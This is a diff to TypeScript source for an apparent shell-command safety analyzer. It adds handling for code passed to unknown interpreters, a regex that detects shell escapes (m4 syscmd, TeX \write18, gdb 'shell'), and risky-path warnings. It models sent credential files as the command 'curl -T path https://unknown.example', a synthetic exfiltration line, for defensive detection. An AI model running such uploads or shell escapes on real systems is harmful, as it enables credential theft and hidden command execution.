@@ -3,14 +3,17 @@
 
 import { POLICY_FOLDED_MAX_CHARS } from "../../../support/limits.ts";
 import { changeDirectory, holdsCredentials } from "../../paths/paths.ts";
+import { isRiskedPath } from "../../protected-paths.ts";
 import type { CommandContext, EffectiveCommand, Field, Runner } from "../../shell-model/command.ts";
 import { type Flow, flowOf } from "../../shell-model/flow.ts";
 import { isCertain, UNKNOWN } from "../../shell-model/marks.ts";
 import { apartFrom } from "../../shell-model/nested-context.ts";
 import type { Span } from "../../shell-model/span.ts";
+import { MAY_WRITE } from "../may-write.ts";
 import { loosenedByCode } from "../nacre/nacre-code.ts";
 import type { RunsCommand } from "../program-record.ts";
 import { readOptions, valuesOf } from "../read-options.ts";
+import { pathsNamed } from "./code-paths.ts";
 import { type CodeScan, scanCode } from "./foreign-code.ts";
 
 export const runInterpreter: RunsCommand = (command, around, runner, table) => {
@@ -25,6 +28,53 @@ export const runInterpreter: RunsCommand = (command, around, runner, table) => {
   }
   return flowOf(null);
 };
+
+/**
+ * A program whose arguments may be code: a language that is seldom used, or an unknown program. Its language is not
+ * known, so a path counts wherever it stands.
+ */
+export const runLanguage: RunsCommand = (command, around, runner) => {
+  for (const { text, span } of codeGiven(command, around)) {
+    const inside = { ...apartFrom(around, command.program), assignments: [], span };
+    runCode(text, inside, null, command, runner);
+    const scan = scanCode(text, runner.where.home);
+    if (scan.destroys || scan.sends)
+      noteLoosePaths(scan, pathsNamed(withHomePath(text, runner)), command, inside, runner);
+    for (const [, shell = ""] of text.matchAll(BARE_COMMANDS)) runner.runText(shell, inside);
+  }
+  return null;
+};
+
+/** Code in a file that the command wrote, whichever its language is. */
+export function runCodeText(
+  text: string,
+  command: EffectiveCommand,
+  around: CommandContext,
+  runner: Runner,
+): void {
+  runCode(text, around, null, command, runner);
+  for (const [, shell = ""] of text.matchAll(BARE_COMMANDS)) runner.runText(shell, around);
+}
+
+/** Commands without quotes: m4's `syscmd(…)`, dc's `!…`, gdb's `shell …`. */
+const BARE_COMMANDS =
+  /(?:\be?syscmd\(\[*|\\write18\s*\{|m4_esyscmd\(\[*|(?:^|\n)\s*!|(?:^|\n)\s*(?:shell|system)\s+(?!\())([^\n)\]"']{1,400})/g;
+
+const withHomePath = (text: string, { where }: Runner): string =>
+  text.replace(/~(?=\/|["'\s)]|$)|\$(?:env:)?(?:HOME\b|\{HOME\}|env\(HOME\))|%\*ENV<HOME>/g, where.home);
+
+/** Arguments that are more than a word or a path, the files they name if the command wrote them, and the input. */
+function codeGiven({ args, stdin, span }: EffectiveCommand, { scope }: CommandContext): readonly Field[] {
+  const [cwd = UNKNOWN] = scope.cwds;
+  const written = args.flatMap((arg): readonly Field[] => {
+    const text = scope.files.size > 0 ? scope.files.get(changeDirectory(arg.text, cwd))?.text : undefined;
+    return text === undefined || text === null ? [] : [{ ...arg, text }];
+  });
+  const texts = args.filter(({ text }) => /[\s("'!]/.test(text));
+  const input =
+    stdin.connected && stdin.text !== null && stdin.text !== "" ? [{ text: stdin.text, span }] : [];
+  return [...texts, ...written, ...input];
+}
 
 /** The code of a file that the command wrote, of stdin or of a substitution. */
 function scriptOf(
@@ -67,6 +117,7 @@ function runCode(
         ([, text = ""]) => text,
       )
     : [];
+  noteLoosePaths(scan, scan.paths, command, around, runner);
   for (const text of [...scan.texts, ...bare]) runner.runText(text, around);
   for (const argv of [...scan.argvs, ...sentSecrets(scan, around)])
     runner.runArgv(
@@ -76,16 +127,35 @@ function runCode(
   signs(scan, command.program, around.span, runner);
 }
 
+/** A path of unknown use: what code of another language does with it cannot be told. */
+function noteLoosePaths(
+  { destroys }: CodeScan,
+  paths: readonly string[],
+  { program }: EffectiveCommand,
+  { scope, span }: CommandContext,
+  runner: Runner,
+): void {
+  const [cwd = UNKNOWN] = scope.cwds;
+  const how = destroys ? MAY_WRITE.unknown : MAY_WRITE.familiar;
+  const risky = paths.find((path) =>
+    scope.made.links.resolve(path, cwd, true).some((resolved) => isRiskedPath({ resolved, how })),
+  );
+  if (risky !== undefined)
+    runner.sign("unknown-effect", span, `code of ${program} uses ${risky}, and how is not known`);
+}
+
 /** Keys that the code reads and sends, as equivalent shell commands. */
-function sentSecrets({ sends, argvs }: CodeScan, { scope }: CommandContext): readonly (readonly string[])[] {
+function sentSecrets(
+  { sends, posts, argvs, literals }: CodeScan,
+  { scope }: CommandContext,
+): readonly (readonly string[])[] {
   if (!sends) return [];
   const [cwd = UNKNOWN] = scope.cwds;
-  return argvs
-    .filter(
-      ([program, , path = ""]) =>
-        program === "cat" && scope.made.links.resolve(path, cwd, true).some(holdsCredentials),
-    )
-    .map(([, , path = ""]) => ["curl", "-T", path]);
+  const holdsKeys = (path: string) => scope.made.links.resolve(path, cwd, true).some(holdsCredentials);
+  const read = argvs.flatMap(([program, , path = ""]) => (program === "cat" ? [path] : []));
+  const keys = [...read, ...literals].filter(holdsKeys);
+  const sent = keys.length > 0 ? keys : posts ? read : [];
+  return sent.map((path) => ["curl", "-T", path, "https://unknown.example"]);
 }
 
 function signs(scan: CodeScan, program: string, span: Span, runner: Runner): void {
